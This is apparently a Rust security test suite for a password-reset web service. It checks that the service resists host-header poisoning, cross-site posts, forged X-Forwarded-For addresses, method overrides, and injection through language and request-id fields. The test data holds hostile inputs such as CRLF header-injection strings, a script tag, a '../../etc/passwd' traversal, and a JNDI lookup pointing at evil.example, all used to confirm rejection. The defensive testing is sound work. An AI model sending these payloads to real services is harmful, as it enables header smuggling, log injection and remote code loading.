//! Attacks by headers and methods.

use sspr::http::TrustedProxies;

use crate::{
    site::{RESET, Site},
    support::{
        NEW, OLD,
        front::{FORM, build, form, get, post, send},
        seconds,
    },
};

/// Codes in links leak by `Referer`, history and caches. Codes and tokens stand in bodies and
/// cookies only, and every answer says that nothing of it may be kept or passed on.
#[tokio::test]
async fn attack_31_nothing_secret_stands_in_an_address_or_stays_in_a_cache() {
    let site = Site::new().await;
    let (mut browser, code) = site.waiting("ada@example.com").await;
    let mut seen = vec![browser.get(&browser.at.clone()).await];
    seen.push(browser.post("code", &[("code", &code)]).await);
    seen.push(browser.get(&browser.at.clone()).await);
    let fields = [("new-password", NEW), ("confirm-password", NEW)];
    seen.push(browser.post("new-password", &fields).await);
    seen.push(browser.get(&browser.at.clone()).await);
    for answer in &seen {
        assert_eq!(answer.header("referrer-policy"), "same-origin");
        assert_eq!(answer.header("cache-control"), "no-store");
        let to = answer.header("location");
        assert!(!to.contains(&code) && to.len() < 60, "{to}");
        // The id of a journey is random, so it may happen to have these letters in it.
        let (path, flow) = to.split_once("flow=").unwrap_or((to, ""));
        assert!(!path.contains("ada"), "{to}");
        assert!(flow.len() <= 8, "the id of a journey is no secret: {flow}");
    }
    let native = site.start("ada@example.com").await;
    assert_eq!((native.header("cache-control"), native.header("location")), ("no-store", ""));
}

/// Zitadel CVE-2023-49097, Dotclear CVE-2016-7903: the mail's link was built of `Host` or of
/// `X-Forwarded-Host`. Mails have no link, and nothing of a request's headers is in one.
#[tokio::test]
async fn attack_32_a_hostile_host_is_in_no_mail_and_no_answer() {
    let mut mails = Vec::new();
    for hostile in [
        None,
        Some("host"),
        Some("x-forwarded-host"),
        Some("x-forwarded-server"),
        Some("x-host"),
        Some("forwarded"),
        Some("x-original-url"),
        Some("x-rewrite-url"),
        Some("referer"),
        Some("x-forwarded-prefix"),
    ] {
        let site = Site::new().await;
        let headers: Vec<(&str, &str)> = hostile
            .map(|name| {
                (name, if name == "forwarded" { "host=evil.example" } else { "evil.example" })
            })
            .into_iter()
            .collect();
        let mut browser = site.browser();
        let mut seen = Vec::new();
        for (page, fields) in [("sign-in", &[("username", "ada@example.com")][..]), ("reset", &[])]
        {
            seen.push(browser.post_with(page, &headers, fields).await);
        }
        let body = form(&[
            ("client_id", "shop"),
            ("username", "aaaa@example.com"),
            ("challenge_type", "oob redirect"),
        ]);
        seen.push(post(&site.app, &format!("{RESET}/start"), &headers, &body).await);
        for path in ["/account", "/account/sign-in", "/api/openapi.json"] {
            seen.push(get(&site.app, path, &headers).await);
        }
        assert!(!format!("{seen:?}").contains("evil"), "{hostile:?}");
        let code = site.code().await;
        let mail = site.world.inbox.messages().pop().unwrap();
        let text = [mail.text.as_str(), &mail.html, &mail.subject, &mail.from_name].concat();
        assert!(!text.contains("http://") && !text.contains("<a "), "a link");
        mails.push(text.replace(&code, "CODE"));
    }
    assert!(mails.iter().all(|mail| *mail == mails[0]));
}

/// Forged posts from other sites, and the sign-in that a victim does not notice. A post from
/// another origin is refused, and the journey is bound to the browser by a guarded cookie.
#[tokio::test]
async fn attack_68_another_site_can_post_nothing() {
    let site = Site::new().await;
    let (mut browser, code) = site.waiting("ada@example.com").await;
    for headers in [
        &[("origin", "https://evil.example")][..],
        &[("origin", "null")],
        &[("origin", "https://shop.example.evil.example")],
        &[("sec-fetch-site", "cross-site")],
        &[("sec-fetch-site", "same-site")],
        &[("sec-fetch-site", "cross-site"), ("origin", "https://shop.example")],
    ] {
        let before = browser.at.clone();
        let seen = browser.post_with("code", headers, &[("code", &code)]).await;
        assert_eq!(seen.status, 403, "{headers:?}");
        let fields = [("username", "eve@example.com")];
        assert_eq!(browser.post_with("sign-in", headers, &fields).await.status, 403);
        assert_eq!(browser.post_with("password", headers, &[("password", OLD)]).await.status, 403);
        assert_eq!(browser.at, before);
    }
    // The page's address alone is worth nothing in another browser.
    let seen = post(&site.app, &browser.path("code"), &[], &form(&[("code", &code)])).await;
    assert_eq!(seen.header("location"), "start-again");
    let line = browser.post("resend", &[]).await.header("set-cookie").to_owned();
    for guard in ["__Host-", "; Secure", "; HttpOnly", "; SameSite=Lax", "; Path=/"] {
        assert!(line.contains(guard), "{line}");
    }
    assert!(!line.to_ascii_lowercase().contains("domain="));
    browser.post("code", &[("code", &code)]).await;
    assert!(browser.at.contains("new-password"), "and none of it was a try: {}", browser.at);
}

/// Another `X-Forwarded-For` with every request was another network for the limits. Nobody's is
/// believed but that of a proxy that was named.
#[tokio::test]
async fn attack_own_34_a_forwarded_address_that_nobody_vouches_for_is_no_network() {
    let site = Site::new().await;
    let mut started = 0;
    for number in 0..20 {
        let address = format!("198.51.100.{number}");
        let headers = [
            ("x-forwarded-for", &*address),
            ("x-real-ip", &address),
            ("cf-connecting-ip", &address),
            ("true-client-ip", &address),
            ("client-ip", &address),
        ];
        let mut browser = site.browser();
        browser.post_with("sign-in", &headers, &[("username", "ada@example.com")]).await;
        browser.post_with("reset", &headers, &[]).await;
        started += usize::from(browser.at.contains("/code?"));
    }
    assert_eq!(started, 5);
}

/// Behind a proxy a client writes addresses before its own, in the same line or in one more. The
/// rightmost that is no proxy counts, and a chain that is broken leads no further.
#[tokio::test]
async fn attack_own_35_what_a_client_writes_before_its_address_does_not_count() {
    let site = Site::behind(TrustedProxies::parse(["192.0.2.1", "10.0.0.0/8"]).unwrap()).await;
    let mut started = 0;
    for number in 0..20 {
        let forged = format!("198.51.100.{number}");
        let chained = format!("{forged}, 203.0.113.7");
        let longer = format!("10.0.0.{number}, {forged}, 203.0.113.7, 10.1.1.1");
        let headers = match number % 4 {
            0 => vec![("x-forwarded-for", &*chained)],
            1 => vec![("x-forwarded-for", &*forged), ("x-forwarded-for", "203.0.113.7")],
            2 => vec![("x-forwarded-for", &*longer)],
            _ => vec![("x-forwarded-for", "::ffff:203.0.113.7"), ("forwarded", "for=6.6.6.6")],
        };
        let mut browser = site.browser();
        browser.post_with("sign-in", &headers, &[("username", "ada@example.com")]).await;
        browser.post_with("reset", &headers, &[]).await;
        started += usize::from(browser.at.contains("/code?"));
    }
    assert_eq!(started, 5);
}

/// Links, prefetchers, mail scanners and preflights: what only looks changes nothing, whatever
/// method it says it means.
#[tokio::test]
async fn attack_own_36_a_request_that_only_looks_does_nothing() {
    let site = Site::new().await;
    let (mut browser, code) = site.waiting("ada@example.com").await;
    site.world.clock.advance(seconds(60));
    let pages = ["sign-in", "password", "reset", "resend", "code", "new-password", "sign-out"];
    let mut paths: Vec<String> = pages.iter().map(|page| browser.path(page)).collect();
    let waiting = browser.at.clone();
    // In another tab nothing is asked for yet.
    browser.post("sign-in", &[("username", "ada@example.com")]).await;
    paths.extend(["reset", "password"].map(|page| browser.path(page)));
    paths.push(format!("{RESET}/start"));
    browser.at = waiting;
    let (mails, cookie) = (site.mails().await, browser.cookie());
    let over = [
        ("cookie", &*cookie),
        ("x-http-method-override", "POST"),
        ("x-method-override", "POST"),
        ("content-type", FORM),
    ];
    let body = form(&[
        ("code", &code),
        ("_method", "POST"),
        ("new-password", NEW),
        ("confirm-password", NEW),
        ("client_id", "shop"),
        ("username", "aaaa@example.com"),
        ("challenge_type", "oob redirect"),
    ]);
    for method in ["GET", "HEAD", "OPTIONS", "TRACE", "PUT", "PATCH", "DELETE", "post"] {
        for path in &paths {
            let seen = send(&site.app, build(method, path, &over, &body)).await;
            assert!(seen.status != 500, "{method} {path}");
            assert!(!seen.header("location").contains("done"), "{method} {path}");
            assert!(!seen.body.contains("continuation_token\":"), "{method} {path}");
        }
    }
    assert_eq!(site.mails().await, mails);
    assert!(site.is_untouched("ada").await);
    assert!(site.sessions.0.lock().unwrap().is_empty());
    browser.post("code", &[("code", &code)]).await;
    assert!(browser.at.contains("new-password"), "the code is still good: {}", browser.at);
}

/// Languages go into mails and pages: what is none is not repeated, and what is one only chooses
/// among the words that are there.
#[tokio::test]
async fn attack_own_37_a_language_is_chosen_and_never_repeated() {
    let mut mails = Vec::new();
    for wanted in [
        "xx-evil",
        "<script>alert(1)</script>",
        "de%0d%0aBcc:eve@example.com",
        "../../etc/passwd",
        "{code}",
        "%7Bcode%7D",
    ] {
        let site = Site::new().await;
        let mut browser = site.browser();
        let seen = browser.get(&format!("/account/sign-in?ui_locales={}", encoded(wanted))).await;
        assert_eq!(seen.status, 200);
        let whole = format!("{seen:?}");
        assert!(!whole.contains("evil") && !whole.contains("<script>alert"), "{wanted}");
        let headers = [("accept-language", "evil;q=1, {code};q=0.9, ../x, *;q=0.1")];
        browser.post_with("sign-in", &headers, &[("username", "ada@example.com")]).await;
        browser.post_with("reset", &headers, &[]).await;
        let code = site.code().await;
        let mail = site.world.inbox.messages().pop().unwrap();
        assert_eq!(mail.language.as_str(), "en");
        mails.push([mail.text.as_str(), &mail.html].concat().replace(&code, "CODE"));
    }
    assert!(mails.iter().all(|mail| *mail == mails[0]));
    assert!(!mails[0].contains("evil"));
}

fn encoded(text: &str) -> String {
    text.bytes().map(|byte| format!("%{byte:02X}")).collect()
}

/// What a client names its request goes into answers and logs: only an id is echoed, and never into
/// a second header or line.
#[tokio::test]
async fn attack_own_38_a_request_id_smuggles_nothing() {
    let site = Site::new().await;
    let body = form(&[
        ("client_id", "shop"),
        ("username", "ada@example.com"),
        ("challenge_type", "oob redirect"),
    ]);
    for bad in [
        "x%0d%0aset-cookie:a=b",
        "x%0Alevel=error",
        "${jndi:ldap://evil.example}",
        "<script>",
        "a b",
        "evil;",
    ] {
        for (path, headers) in [
            (format!("{RESET}/start"), vec![("client-request-id", bad)]),
            (format!("{RESET}/start?client-request-id={}", encoded(bad)), vec![]),
            (
                format!(
                    "{RESET}/start?client-request-id={}",
                    bad.replace([' ', '<', '>', '{', '}'], "")
                ),
                vec![],
            ),
        ] {
            let seen = post(&site.app, &path, &headers, &body).await;
            assert_eq!(seen.header("set-cookie"), "");
            assert_ne!(seen.header("client-request-id"), bad, "{path}");
            assert!(!seen.header("client-request-id").contains(['%', '$', '<', '\n', ';', ':']));
            // The next step opens the reset, so that its events carry the id.
            let token = seen.text("continuation_token");
            let body = form(&[("client_id", "shop"), ("continuation_token", &token)]);
            post(&site.app, &path.replace("/start", "/challenge"), &headers, &body).await;
        }
    }
    let events = site.world.events.all();
    let ids = events.iter().filter_map(|event| event.correlation.as_ref());
    assert!(ids.clone().count() > 0);
    for id in ids {
        assert!(id.as_str().bytes().all(|byte| byte.is_ascii_alphanumeric() || byte == b'-'));
    }
}
